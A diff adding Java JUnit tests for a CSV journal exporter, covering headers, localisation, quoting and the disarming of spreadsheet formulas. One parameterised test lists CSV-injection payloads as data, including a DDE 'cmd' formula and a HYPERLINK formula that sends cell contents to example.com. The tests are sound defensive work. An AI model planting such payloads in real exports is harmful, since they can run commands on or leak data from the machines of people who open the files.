@@ -1,0 +1,87 @@
+package io.patkeeper.journal;
+
+import java.time.Instant;
+import java.util.List;
+import java.util.Locale;
+import java.util.UUID;
+
+import org.jspecify.annotations.Nullable;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+import org.springframework.context.support.ResourceBundleMessageSource;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+class JournalCsvTests {
+
+	private static final String ID = "7d444840-9dc0-11d1-b245-5ffdce74fad2";
+
+	private final JournalCsv csv = new JournalCsv(messages());
+
+	@Test
+	void writesOneLineForEachRowBelowAHead() {
+		String table = this.csv.write(List.of(row("deploy", "invalidScope")), Locale.ENGLISH);
+		assertThat(table).isEqualTo("\uFEFFTime,Organization,Name,Authorization id,Action,Outcome,Reason,"
+				+ "Correlation id,ActivityId\r\n2026-11-23T12:00:00Z,fabrikam,deploy," + ID
+				+ ",Created,Refused,invalidScope,0123456789abcdef,\r\n");
+	}
+
+	@Test
+	void hasAHeadAndWordsInPortugueseButTimesForMachines() {
+		String table = this.csv.write(List.of(row("deploy", null)), Locale.forLanguageTag("pt-BR"));
+		assertThat(table).startsWith("\uFEFF").doesNotContain("Created", "Refused", "Time");
+		assertThat(table.lines()).hasSize(2)
+			.last()
+			.asString()
+			.startsWith("2026-11-23T12:00:00Z,fabrikam,deploy," + ID + ",Cria");
+	}
+
+	@Test
+	void isAHeadAloneWhereThereIsNothing() {
+		assertThat(this.csv.write(List.of(), Locale.ENGLISH).lines()).hasSize(1);
+	}
+
+	@Test
+	void quotesWhatWouldBreakTheTable() {
+		assertThat(JournalCsv.cell("plain, no")).isEqualTo("\"plain, no\"");
+		assertThat(JournalCsv.cell("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
+		assertThat(JournalCsv.cell("two\r\nlines")).isEqualTo("\"two\r\nlines\"");
+		assertThat(JournalCsv.cell("\"")).isEqualTo("\"\"\"\"");
+		assertThat(JournalCsv.cell("plain; o'clock \uD83D\uDD11")).isEqualTo("plain; o'clock \uD83D\uDD11");
+		assertThat(JournalCsv.cell("")).isEmpty();
+	}
+
+	@ParameterizedTest
+	@ValueSource(strings = { "=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", "\0x", "=", "\uFF1D1", "\uFF0B1",
+			"\uFF0D1", "\uFF201", " =1", "\t=1", "\u00A0=1", "\u3000\uFF1D1", "\uFEFF=1", "\u200B@x",
+			"=HYPERLINK(\"http://example.com?\"&A1,\"x\")", "=cmd|' /C calc'!A0", "-\n=1" })
+	void disarmsWhatASpreadsheetWouldCalculate(String formula) {
+		String cell = JournalCsv.cell(formula);
+		boolean quoted = cell.startsWith("\"");
+		String content = quoted ? cell.substring(1, cell.length() - 1).replace("\"\"", "\"") : cell;
+		assertThat(content).isEqualTo("'" + formula);
+		assertThat(quoted).isEqualTo(formula.matches("(?s).*[\",\\x00-\\x1f].*"));
+	}
+
+	@ParameterizedTest
+	@ValueSource(strings = { "a=1", "deploy-2", "user@host", "'=1", "1-1", "release +1", "git: https://x on -host" })
+	void leavesOtherTextsAlone(String text) {
+		assertThat(JournalCsv.cell(text)).isEqualTo(text);
+	}
+
+	private static EntryRow row(String name, @Nullable String code) {
+		return new EntryRow(Instant.parse("2026-11-23T12:00:00Z"), "fabrikam", UUID.fromString(ID), name, "create",
+				(code != null) ? "refused" : "done", code, "0123456789abcdef", null);
+	}
+
+	private static ResourceBundleMessageSource messages() {
+		ResourceBundleMessageSource messages = new ResourceBundleMessageSource();
+		messages.setBasenames("messages/journal", "messages/tokens", "messages/refusals");
+		messages.setDefaultEncoding("UTF-8");
+		messages.setFallbackToSystemLocale(false);
+		return messages;
+	}
+
+}
